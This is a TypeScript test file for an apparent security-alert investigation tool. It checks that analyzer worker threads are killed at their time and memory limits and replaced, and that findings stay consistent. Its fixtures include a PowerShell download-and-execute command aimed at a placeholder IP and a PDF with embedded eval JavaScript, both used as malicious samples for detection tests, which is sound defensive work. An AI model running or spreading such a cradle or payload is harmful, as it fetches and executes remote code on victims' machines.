// The analyzer pool on real worker threads: a task that never yields, eats memory or kills
// its thread becomes an AnalyzerLimitError naming the task and the limit (and, through an
// investigation, an analyzer-error finding); the thread is replaced; healthy threads are
// reused; and the caller's event loop stays free, so the activity keeps heartbeating.
// Needs dist/ built (npm run build): threads run compiled JavaScript.
import { join } from 'node:path';
import { DefaultLogger } from '@temporalio/worker';
import { MockActivityEnvironment } from '@temporalio/testing';
import { whileHeartbeating } from '../../src/activities/heartbeating';
import { parseAlert } from '../../src/domain/alert';
import { extractObservables } from '../../src/domain/observables';
import { AnalyzerLimitError, AnalyzerPool, inProcessRunner } from '../../src/investigation/analyzer-pool';
import type { AnalyzerTask } from '../../src/investigation/analyzer-tasks';
import { offlinePlan } from '../../src/investigation/default-plan';
import { runInvestigation } from '../../src/investigation/investigate';
import { memoryInvestigationStore } from '../../src/investigation/store';
import { freshlyCompiled } from '../helpers/compiled';

const MISBEHAVING = join(__dirname, '..', 'fixtures', 'analyzer-threads', 'misbehaving-thread.js');
const task = (name: string) => name as AnalyzerTask;
const pools: AnalyzerPool[] = [];
const pool = (o: ConstructorParameters<typeof AnalyzerPool>[0]) => {
  const p = new AnalyzerPool(o);
  pools.push(p);
  return p;
};
afterEach(async () => {
  await Promise.all(pools.splice(0).map((p) => p.close()));
});

test('a task that never yields is killed at the time limit, and the next task gets a fresh thread', async () => {
  const p = pool({ entry: MISBEHAVING, threads: 1, timeLimitMs: 2_000, memoryLimitMb: 64 });
  const before = (await p.run(task('echo'), 'hello' as never)) as unknown as { threadId: number };
  const killed = p.run(task('spin'), undefined as never);
  await expect(killed).rejects.toThrow(AnalyzerLimitError);
  await expect(killed).rejects.toMatchObject({ task: 'spin', limit: 'time', message: 'spin: stopped after the 2000 ms time limit' });
  const after = (await p.run(task('echo'), 'again' as never)) as unknown as { input: string; threadId: number };
  expect(after.input).toBe('again');
  expect(after.threadId).not.toBe(before.threadId);
  expect(p.stats).toEqual({ threadsStarted: 2, tasks: 3, killed: 1 });
});

test('a thread over its memory limit is stopped and reported as such; one that exits, as a crash', async () => {
  const p = pool({ entry: MISBEHAVING, threads: 1, timeLimitMs: 60_000, memoryLimitMb: 32 });
  await expect(p.run(task('hog'), undefined as never)).rejects.toMatchObject({
    limit: 'memory',
    message: 'hog: stopped at the 32 MB memory limit',
  });
  await expect(p.run(task('exit'), undefined as never)).rejects.toMatchObject({
    limit: 'crash',
    message: 'exit: analyzer thread exited with code 3',
  });
  // An analyzer's own error is an ordinary rejection: the thread is healthy and kept.
  await expect(p.run(task('throws'), undefined as never)).rejects.toThrow('bad input');
  await expect(p.run(task('echo'), 1 as never)).resolves.toMatchObject({ input: 1 });
  expect(p.stats.threadsStarted).toBe(3);
  expect(p.stats.killed).toBe(2);
});

test('threads are reused across calls, and calls beyond the pool size wait their turn', async () => {
  const p = pool({ entry: MISBEHAVING, threads: 2, timeLimitMs: 60_000, memoryLimitMb: 64 });
  const results = (await Promise.all(Array.from({ length: 12 }, (_, i) => p.run(task('echo'), i as never)))) as unknown as {
    input: number;
    threadId: number;
  }[];
  expect(results.map((r) => r.input)).toEqual(Array.from({ length: 12 }, (_, i) => i));
  expect(new Set(results.map((r) => r.threadId)).size).toBe(2);
  expect(p.stats.threadsStarted).toBe(2);
});

test('the activity keeps heartbeating while an analyzer thread spins', async () => {
  const p = pool({ entry: MISBEHAVING, threads: 1, timeLimitMs: 600_000, memoryLimitMb: 64 });
  const env = new MockActivityEnvironment({}, { logger: new DefaultLogger('ERROR') });
  let beats = 0;
  let reached!: () => void;
  const threeBeats = new Promise<void>((r) => {
    reached = r;
  });
  env.on('heartbeat', () => {
    if (++beats === 3) reached();
  });
  const running = env.run(() => whileHeartbeating(20, () => p.run(task('spin'), undefined as never)));
  await threeBeats; // an in-process spin would block this event loop: no beat at all
  await p.close();
  await expect(running).rejects.toThrow();
  expect(beats).toBeGreaterThanOrEqual(3);
});

describe('with the compiled analyzer thread', () => {
  const alertContext = (commandLines: string[]) => {
    const alert = parseAlert({
      source: 't',
      sourceId: 'x',
      time: '2026-12-07T10:00:00Z',
      title: 'x',
      severity: 'medium',
      observables: { processes: commandLines.map((commandLine) => ({ commandLine })) },
    });
    return { observables: extractObservables(alert), processes: [] };
  };
  const pdf = Buffer.from(
    '%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); eval\\(unescape\\("%u9090"\\)\\)) >> >>\nendobj\n%%EOF\n',
  );
  const commandLine = 'powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a.ps1\')"';

  test('an investigation on threads finds what the same analyzers find in-process', async () => {
    const threads = pool({
      entry: freshlyCompiled('src/investigation/analyzer-thread.js'),
      threads: 2,
      timeLimitMs: 120_000,
      memoryLimitMb: 512,
    });
    const run = async (runner: typeof inProcessRunner) => {
      const store = memoryInvestigationStore();
      const ref = await store.put({ kind: 'attachment', mediaType: 'application/pdf', name: 'a.pdf', content: pdf });
      return runInvestigation(store, offlinePlan({ runner }), alertContext([commandLine]), [ref]);
    };
    const [onThreads, inProcess] = [await run(threads), await run(inProcessRunner)];
    expect(onThreads).toEqual(inProcess);
    expect(onThreads.find((f) => f.analyzer === 'document:a.pdf')?.verdict).toBe('malicious');
    expect(onThreads.find((f) => f.analyzer === 'powershell')?.verdict).toBe('malicious');
    expect(onThreads.every((f) => !f.error)).toBe(true);
    expect(threads.stats.threadsStarted).toBeLessThanOrEqual(2);
    expect(threads.stats.killed).toBe(0);
  });

  test('analyzers that outlive the limit become error findings naming the analyzer and the limit; waiting for a thread does not count', async () => {
    const spinning = pool({ entry: MISBEHAVING, threads: 1, timeLimitMs: 400, memoryLimitMb: 64 });
    const store = memoryInvestigationStore();
    const ref = await store.put({ kind: 'attachment', mediaType: 'application/pdf', name: 'a.pdf', content: pdf });
    // One thread for 8 tasks: the last ones wait ~2.8 s for it, far past the plan's own 1 s.
    const plan = { ...offlinePlan({ runner: spinning }), timeoutMs: 1000 };
    const findings = await runInvestigation(store, plan, alertContext([commandLine]), [ref]);
    const failed = findings.filter((f) => f.error);
    expect(failed.length).toBe(spinning.stats.tasks);
    for (const f of failed) expect(f.error).toMatch(/^[a-zA-Z]+: stopped after the 400 ms time limit$/);
    const ps = findings.find((f) => f.analyzer === 'powershell');
    expect(ps).toMatchObject({ verdict: 'unknown', score: 0, error: 'powershell: stopped after the 400 ms time limit' });
    expect(findings.find((f) => f.analyzer === 'document:a.pdf')?.error).toBe('document: stopped after the 400 ms time limit');
    // YARA stays in-process (native code with its own scan timeout) and still reports.
    expect(findings.find((f) => f.analyzer === 'yara:a.pdf')?.error).toBeUndefined();
    expect(spinning.stats.killed).toBe(spinning.stats.tasks);
  });
});
